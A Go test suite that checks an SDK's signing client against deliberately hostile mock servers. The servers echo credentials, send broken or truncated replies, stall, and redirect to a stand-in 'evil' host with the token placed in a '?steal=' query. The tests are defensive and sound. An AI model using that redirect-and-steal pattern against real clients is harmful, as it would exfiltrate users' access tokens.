// Package hostile runs every Sign operation against servers that do not keep
// the contract: answers that echo the token and the secret everywhere,
// garbage, nothing, a body cut short, a redirect to another host, a stall,
// a 401 forever. Whatever the server does, no call panics, each returns in
// bounded time, every error says its outcome, and no error, printed form or
// log line holds the token or the secret; no other host sees the token.
package hostile

//lint:file-ignore SA1019 every operation the API serves meets a hostile server, the deprecated conversion operations included

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"
	"go.uber.org/goleak"

	"github.com/nitrokit/nitro"
	"github.com/nitrokit/nitro/internal/testkit/testlog"
	"github.com/nitrokit/nitro/sign"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// The secrets the hostile server knows: the client secret it is given and
// the token it issues.
const (
	secret = "hostile-secret-4tW9"
	token  = "hostile-token-Zq81"
)

// echo is both secrets, as a hostile server repeats them.
const echo = token + " " + secret + " Bearer " + token

// behaviours are what the server answers every API request with.
var behaviours = map[string]func(evil string) http.HandlerFunc{
	"400 problem echoing the secrets": problem(400),
	"503 problem echoing the secrets": problem(503),
	"401 forever, echoing the token":  problem(401),
	"2xx echoing the secrets": func(string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("X-Request-Id", echo)
			fmt.Fprintf(w, `{"ID":%q,"id":%q,"name":%q,"status":%q,"items":[{"ID":%q,"name":%q}],"nextPage":%q,"jobID":%q}`,
				echo, echo, echo, echo, echo, echo, echo, echo)
		}
	},
	"2xx garbage": func(string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<html>"+echo+"</html>")
		}
	},
	"2xx empty": func(string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusOK) }
	},
	"2xx cut short": func(string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			body := `{"ID":"` + uuid.NewString() + `","name":"` + echo + `","status":"drafted"}`
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Content-Length", strconv.Itoa(len(body)))
			w.WriteHeader(http.StatusOK)
			_, _ = io.WriteString(w, body[:len(body)/2])
			w.(http.Flusher).Flush()
			if c, _, err := w.(http.Hijacker).Hijack(); err == nil {
				c.Close()
			}
		}
	},
	"redirect to another host": func(evil string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, evil+r.URL.Path+"?steal="+token, http.StatusTemporaryRedirect)
		}
	},
	"stall": func(string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			// The body read whole, net/http notices the client leave.
			_, _ = io.Copy(io.Discard, r.Body)
			t := time.NewTimer(time.Minute)
			defer t.Stop()
			select {
			case <-r.Context().Done():
			case <-t.C:
			}
		}
	},
}

// problem answers status with an RFC 9457 problem whose every member, and
// the headers a client keeps, repeat both secrets.
func problem(status int) func(string) http.HandlerFunc {
	return func(string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/problem+json")
			w.Header().Set("X-Request-Id", echo)
			w.Header().Set("Retry-After", "0")
			w.WriteHeader(status)
			fmt.Fprintf(w, `{"type":%q,"title":%q,"detail":%q,"instance":%q,"extensions":{%q:%q},"validation_errors":{%q:%q}}`,
				echo, echo, echo, echo, echo, echo, echo, echo)
		}
	}
}

// server is a hostile API with a token endpoint that works, and a client
// on it that logs every attempt.
func server(t *testing.T, h http.HandlerFunc) (*sign.Client, *testlog.Buffer) {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("POST /oauth/token", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"access_token":%q,"token_type":"Bearer","expires_in":3600}`, token)
	})
	mux.HandleFunc("/", h)
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	logs := &testlog.Buffer{}
	nc, err := nitro.NewClient(nitro.Config{ClientID: "id", ClientSecret: secret, BaseURL: srv.URL,
		Timeout: 300 * time.Millisecond, MaxRetries: 1, Logger: logs.Logger()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { nc.Close() })
	haveToken(t, nc)
	return sign.New(nc), logs
}

// haveToken fetches nc's token before any call: the log is checked for the
// token in the paths of calls given it (a job ID), and nc can redact the
// token only once it has it. Left to the calls, a fetch slower than an
// attempt's 300 ms (on a loaded machine) timed the attempts out first, and
// their retry lines logged a path nc had no way to know held a token.
// Config.Timeout bounds API attempts, not this fetch: one Token call retries
// a transient failure itself and is bounded by the source's fetch timeout
// (30 s), so a token endpoint that fails or hangs is reported within it.
func haveToken(t *testing.T, nc *nitro.Client) {
	t.Helper()
	if _, err := nc.Token(context.Background()); err != nil {
		t.Fatalf("no token from the hostile server's token endpoint: %v", err)
	}
}

// calls is every typed Sign operation, with arguments that pass the
// checks made before sending.
func calls(c *sign.Client) map[string]func(context.Context) error {
	env, doc, id := uuid.New(), uuid.New(), uuid.New()
	field := sign.NewCreateFieldRequest(sign.CreateSignatureField{ParticipantID: id, Page: 1, BoundingBox: []float32{1, 2, 3, 4}})
	participant := sign.NewCreateParticipantRequest(sign.SingleParticipantRequest{Email: "a@example.com", Role: sign.ParticipantRoleSigner})
	update := sign.NewFieldUpdate(sign.UpdateSignatureField{Type: sign.UpdateSignatureFieldTypeSignature, Page: nitro.Ptr(int32(2))})
	create := sign.EnvelopeCreate{Name: "x", Mode: sign.EnvelopeModeParallel, Notification: sign.Notification{Subject: "s", Body: "b"}}
	v := func(_ any, err error) error { return err }
	return map[string]func(context.Context) error{
		"CancelEnvelope": func(ctx context.Context) error { return v(c.CancelEnvelope(ctx, env)) },
		"ConvertFile":    func(ctx context.Context) error { return v(c.ConvertFile(ctx, "text/plain", strings.NewReader("x"))) },
		"CreateEnvelope": func(ctx context.Context) error { return v(c.CreateEnvelope(ctx, create)) },
		"CreateDocument": func(ctx context.Context) error {
			return v(c.CreateDocument(ctx, env, sign.DocumentUpload{Name: "a.pdf", ContentType: "application/pdf", Body: strings.NewReader("%PDF-")}))
		},
		"CreateField":       func(ctx context.Context) error { return v(c.CreateField(ctx, env, doc, field)) },
		"CreateParticipant": func(ctx context.Context) error { return v(c.CreateParticipant(ctx, env, participant)) },
		"DeleteDocument":    func(ctx context.Context) error { return c.DeleteDocument(ctx, env, doc) },
		"DeleteEnvelope":    func(ctx context.Context) error { return c.DeleteEnvelope(ctx, env) },
		"DeleteField":       func(ctx context.Context) error { return c.DeleteField(ctx, env, doc, id) },
		"DeleteFields": func(ctx context.Context) error {
			return c.DeleteFields(ctx, env, doc, sign.DeleteFieldsRequest{Items: []uuid.UUID{id}})
		},
		"DeleteParticipant": func(ctx context.Context) error { return c.DeleteParticipant(ctx, env, id) },
		"DeleteParticipants": func(ctx context.Context) error {
			return c.DeleteParticipants(ctx, env, sign.DeleteParticipantsRequest{Items: []uuid.UUID{id}})
		},
		"DownloadAuditTrailOfEnvelope": func(ctx context.Context) error { return v(c.DownloadAuditTrailOfEnvelope(ctx, env, io.Discard)) },
		"DownloadConvertedFile":        func(ctx context.Context) error { return v(c.DownloadConvertedFile(ctx, "job-"+token, io.Discard)) },
		"DownloadOriginalEnvelope":     func(ctx context.Context) error { return v(c.DownloadOriginalEnvelope(ctx, env, io.Discard)) },
		"DownloadSealedDocument":       func(ctx context.Context) error { return v(c.DownloadSealedDocument(ctx, env, doc, io.Discard)) },
		"DownloadSealedEnvelope":       func(ctx context.Context) error { return v(c.DownloadSealedEnvelope(ctx, env, io.Discard)) },
		"GetDocument":                  func(ctx context.Context) error { return v(c.GetDocument(ctx, env, doc)) },
		"GetEnvelope":                  func(ctx context.Context) error { return v(c.GetEnvelope(ctx, env)) },
		"GetJobStatus":                 func(ctx context.Context) error { return v(c.GetJobStatus(ctx, "job-"+secret)) },
		"ListDocuments":                func(ctx context.Context) error { return v(c.ListDocuments(ctx, env)) },
		"ListEnvelopes":                func(ctx context.Context) error { return v(c.ListEnvelopes(ctx, sign.ListEnvelopesParams{})) },
		"ListEnvelopesAutoPaging": func(ctx context.Context) error {
			for _, err := range c.ListEnvelopesAutoPaging(ctx) {
				if err != nil {
					return err
				}
			}
			return nil
		},
		"ListFields":            func(ctx context.Context) error { return v(c.ListFields(ctx, env, doc)) },
		"ListParticipants":      func(ctx context.Context) error { return v(c.ListParticipants(ctx, env)) },
		"ListSignerSigningUrls": func(ctx context.Context) error { return v(c.ListSignerSigningUrls(ctx, env)) },
		"ReorderDocuments": func(ctx context.Context) error {
			return v(c.ReorderDocuments(ctx, env, sign.ReorderDocumentsRequest{Order: []uuid.UUID{doc}}))
		},
		"SendForSigning": func(ctx context.Context) error { return v(c.SendForSigning(ctx, env)) },
		"SendReminders": func(ctx context.Context) error {
			return c.SendReminders(ctx, env, sign.SendReminders{Notification: sign.Notification{Subject: "s", Body: "b"}})
		},
		"UpdateDocument": func(ctx context.Context) error {
			return v(c.UpdateDocument(ctx, env, doc, sign.RenameDocumentRequest{Name: "b.pdf"}))
		},
		"UpdateEnvelope": func(ctx context.Context) error {
			return v(c.UpdateEnvelope(ctx, env, sign.EnvelopeUpdate{Name: nitro.Ptr("y")}))
		},
		"UpdateField": func(ctx context.Context) error { return v(c.UpdateField(ctx, env, doc, id, update)) },
		"UpdateParticipant": func(ctx context.Context) error {
			authn := sign.NewParticipantUpdate_Authentication(sign.AccessCode{AccessCode: "654321", Type: sign.AccessCodeTypeAccessCode})
			return v(c.UpdateParticipant(ctx, env, id, sign.ParticipantUpdate{Authentication: &authn}))
		},
		"WaitForEnvelopeStatus": func(ctx context.Context) error {
			ctx, cancel := context.WithTimeout(ctx, time.Second)
			defer cancel()
			return v(c.WaitForEnvelopeStatus(ctx, env, sign.EnvelopeStatusSealed))
		},
	}
}

// TestEveryOperationAgainstHostileServers: each operation, against each
// behaviour, all at once per behaviour.
func TestEveryOperationAgainstHostileServers(t *testing.T) {
	var evilSaw sync.Map // what the other host received
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		evilSaw.Store(r.Header.Get("Authorization")+" "+r.URL.RawQuery, true)
	}))
	defer evil.Close()
	var cases atomic.Int64
	t.Run("behaviours", func(t *testing.T) {
		for name, behaviour := range behaviours {
			t.Run(name, func(t *testing.T) {
				t.Parallel()
				c, logs := server(t, behaviour(evil.URL))
				var wg sync.WaitGroup
				for op, call := range calls(c) {
					cases.Add(1)
					wg.Go(func() { check(t, op, call) })
				}
				wg.Wait()
				if leaks(logs.String()) {
					t.Errorf("the log holds a secret:\n%s", logs)
				}
			})
		}
	})
	evilSaw.Range(func(k, _ any) bool {
		if s := k.(string); strings.Contains(s, "Bearer") || strings.Contains(s, secret) {
			t.Errorf("another host received %q", s)
		}
		return true
	})
	t.Logf("%d operations × behaviours", cases.Load())
}

// check runs one call and holds it to the suite's promises.
func check(t *testing.T, op string, call func(context.Context) error) {
	defer func() {
		if p := recover(); p != nil {
			t.Errorf("%s panicked: %v", op, p)
		}
	}()
	start := time.Now()
	err := call(context.Background())
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("%s took %v", op, d)
	}
	if err == nil {
		return
	}
	if o := nitro.OutcomeOf(err); o == nitro.OutcomeDone {
		t.Errorf("%s: OutcomeOf(%v) = %v", op, err, o)
	}
	if printed := fmt.Sprintf("%v|%+v|%#v|%q|%s", err, err, err, err, err); leaks(printed) {
		t.Errorf("%s: the error holds a secret: %s", op, printed)
	}
}

// leaks reports whether s holds the token or the secret.
func leaks(s string) bool { return strings.Contains(s, token) || strings.Contains(s, secret) }
